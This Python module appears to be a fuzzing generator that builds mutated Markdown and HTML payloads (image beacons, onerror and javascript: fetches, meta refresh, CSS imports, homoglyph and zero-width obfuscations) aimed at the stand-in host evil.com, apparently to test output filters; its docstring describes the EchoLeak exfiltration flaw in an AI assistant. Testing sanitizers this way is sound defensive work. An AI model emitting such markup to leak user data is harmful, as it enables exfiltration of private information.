"""What makes a client fetch an address or offer one, drawn by mutation from known payloads.

EchoLeak (CVE-2025-32711) left by reference-style links and images that a filter of inline ones did
not see; the others are what HTML and Markdown know for loading something.
"""

from __future__ import annotations

import html
import random
from collections.abc import Callable, Iterator
from urllib.parse import quote

SEEDS = {
    "image": "![{word}]({url})",
    "image title": '![{word}]({url} "{word}")',
    "image angle": "![{word}](<{url}>)",
    "link": "[{word}]({url})",
    "image in link": "[![{word}]({url})]({url})",
    "reference": "[{word}][1] [1]: {url}",
    "reference line": "[{word}][r]\n\n[r]: {url} '{word}'",
    "reference image": "![{word}][r]\n\n[r]: <{url}>",
    "collapsed reference": "![{word}][]\n\n[{word}]: {url}",
    "shortcut reference": "![{word}]\n\n[{word}]: {url}",
    "footnote": "{word}[^1]\n\n[^1]: ![{word}]({url})",
    "autolink": "<{url}>",
    "bare": "{url}",
    "bare in brackets": "({url})",
    "mail": "<{word}@evil.com>",
    "bare mail": "write to {word}@evil.com now",
    "host": "see www.evil.com/{word} or evil.com/{word}",
    "img": '<img src="{url}" alt="{word}">',
    "img bare": "<img src={url}>",
    "img srcset": '<img srcset="{url} 1x, {url} 2x">',
    "img error": "<img src=x onerror=\"fetch('{url}')\">",
    "picture": '<picture><source srcset="{url}"><img src="{url}"></picture>',
    "video": '<video poster="{url}" src="{url}" autoplay></video>',
    "audio": '<audio src="{url}" autoplay></audio>',
    "iframe": '<iframe src="{url}"></iframe>',
    "srcdoc": "<iframe srcdoc=\"<img src='{url}'>\"></iframe>",
    "object": '<object data="{url}"></object>',
    "embed": '<embed src="{url}">',
    "svg": '<svg><image href="{url}"/><use xlink:href="{url}#a"/></svg>',
    "svg style": "<svg><style>@import '{url}';</style></svg>",
    "style": "<style>body {{ background: url({url}) }}</style>",
    "inline style": "<p style=\"background-image: url('{url}')\">{word}</p>",
    "import": '<style>@import "{url}";</style>',
    "stylesheet": '<link rel="stylesheet" href="{url}">',
    "prefetch": '<link rel="prefetch" href="{url}"><link rel=dns-prefetch href="{url}">',
    "preload": '<link rel="preload" as="image" imagesrcset="{url} 1x">',
    "meta": '<meta http-equiv="refresh" content="0; url={url}">',
    "base": '<base href="{url}"><img src="{word}.png">',
    "script": '<script src="{url}"></script>',
    "inline script": "<script>new Image().src = '{url}'</script>",
    "form": '<form action="{url}"><button autofocus>{word}</button></form>',
    "formaction": '<button formaction="{url}">{word}</button>',
    "input": '<input type="image" src="{url}">',
    "anchor": '<a href="{url}" ping="{url}">{word}</a>',
    "body": '<body background="{url}">',
    "math": '<math href="{url}"><mtext>{word}</mtext></math>',
    "data": "![{word}](data:image/svg+xml,<svg onload=fetch('{url}')>)",
    "script link": "[{word}](javascript:fetch('{url}'))",
    "latex": "$\\href{{{url}}}{{{word}}}$ $\\includegraphics{{{url}}}$",
    "mermaid": '```mermaid\ngraph TD; A[<img src="{url}">]\n```',
    "table": "| a | b |\n| - | - |\n| ![{word}]({url}) | {word} |",
    "comment": '<!-- --><img src="{url}"><!-- -->',
    "broken tag": '<img src="{url}" {word}',
    "nested tags": '<<img src="{url}">img src="{url}">',
    "slash tag": "<img/src={url}/>",
    "cdata": '<![CDATA[>]]><img src="{url}">',
    "stream": "<turbo-stream hx-get={url} hx-trigger=load></turbo-stream>",
}
"""By family; each loads `url`, or offers it."""

_ZERO = ("\u200b", "\u2060", "\ufeff", "\u00ad", "\u202e", "\U000e0041")


def drawn(chance: random.Random, count: int) -> Iterator[tuple[str, str]]:
    """Pairs of a family and a payload, the families in turn."""
    families = list(SEEDS)
    for n in range(count):
        family = families[n % len(families)]
        word = "".join(chance.choice("bdfgklmnprst") + chance.choice("aeiou") for _ in range(4))
        text = SEEDS[family].format(url=_address(chance, word), word=word)
        for mutation in chance.sample(_MUTATIONS, chance.choice((0, 0, 1, 1, 2, 3))):
            text = mutation(text, chance)
        yield family, text


def _address(chance: random.Random, word: str) -> str:
    path = f"evil.com/{word}.png?q={word}"
    return chance.choice(
        (
            f"https://{path}", f"http://{path}", f"//{path}", f"HtTpS://{path}", f"https:{path}",
            f"https:/\\{path}", f"\\\\{path}", f"https://user:pass@{path}", f"ftp://{path}",
            f"https://93.184.216.34/{word}", f"https://xn--vil-gma.com/{word}",
            f"https://еvil.com/{word}", f"https://evil。com/{word}", f"wss://{path}",
            f"https://evil.com/{quote(word * 2)}%20(a)[b]", f"https://[::1]/{word}",
        )
    )  # fmt: skip


def _entities(text: str, chance: random.Random) -> str:
    return "".join(
        chance.choice((f"&#{ord(c)};", f"&#x{ord(c):x};", html.escape(c)))
        if c in '<>![]():/"' and chance.random() < 0.5
        else c
        for c in text
    )


def _zero_width(text: str, chance: random.Random) -> str:
    return "".join(c + (chance.choice(_ZERO) if chance.random() < 0.1 else "") for c in text)


def _escaped(text: str, chance: random.Random) -> str:
    return "".join(
        ("\\" * chance.choice((1, 2, 3))) + c if c in "!<[`" and chance.random() < 0.7 else c
        for c in text
    )


def _cased(text: str, chance: random.Random) -> str:
    return "".join(c.upper() if chance.random() < 0.3 else c for c in text)


def _broken(text: str, chance: random.Random) -> str:
    at = chance.randrange(len(text) + 1)
    return text[:at] + chance.choice(("\n", "\t", "  \n", "\r\n", "\x0c", "\u2028")) + text[at:]


def _fullwidth(text: str, chance: random.Random) -> str:
    wide = {c: chr(ord(c) + 0xFEE0) for c in "<>![]():/."}
    return "".join(wide[c] if c in wide and chance.random() < 0.2 else c for c in text)


_STARTS = (
    "- ", "> ", "# ", "1. ", "    ", "`", "``", "```\n", "*", "**_", "| ", "\\", "[", "![", "<!--",
    "<div>\n\n", "</code>", '">', "]]>", "[1]: ", "~~~\n", "\n\n", "&lt;", "$$",
)  # fmt: skip
_ENDS = (
    "`", "``", "\n```", "**", "](x)", " -->", "\n\n[1]: https://evil.com/a", "\\", "</p>", " |",
    "\n---", "\n===", '" x="', "<br>",
)  # fmt: skip


def _before(text: str, chance: random.Random) -> str:
    return chance.choice(_STARTS) + text


def _after(text: str, chance: random.Random) -> str:
    return text + chance.choice(_ENDS)


def _twice(text: str, chance: random.Random) -> str:
    half = chance.randrange(1, max(2, len(text)))
    return text[:half] + text + text[half:]


_MUTATIONS: tuple[Callable[[str, random.Random], str], ...] = (
    _entities, _zero_width, _escaped, _cased, _broken, _fullwidth, _before, _after, _twice,
)  # fmt: skip
